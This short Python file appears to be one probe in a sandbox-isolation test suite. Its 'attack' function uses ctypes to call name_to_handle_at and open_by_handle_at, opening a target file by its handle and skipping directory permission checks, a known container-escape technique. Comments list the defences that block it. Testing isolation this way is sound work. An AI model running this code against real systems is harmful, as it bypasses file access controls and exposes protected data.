"""Opens a file by its number on the disk, past every folder on the way."""
# stopped by: seccomp, uid, capabilities, landlock, namespaces
# needs: root

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
HANDLE_BYTES = 128


def attack(judge):
    handle = ctypes.create_string_buffer(HANDLE_BYTES.to_bytes(4, "little"), 8 + HANDLE_BYTES)
    mount = ctypes.c_int()
    if LIBC.name_to_handle_at(-100, judge["key"].encode(), handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    descriptor = LIBC.open_by_handle_at(os.open(os.path.dirname(os.__file__), os.O_RDONLY), handle, os.O_RDONLY)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return f"read {os.read(descriptor, 40)!r}"
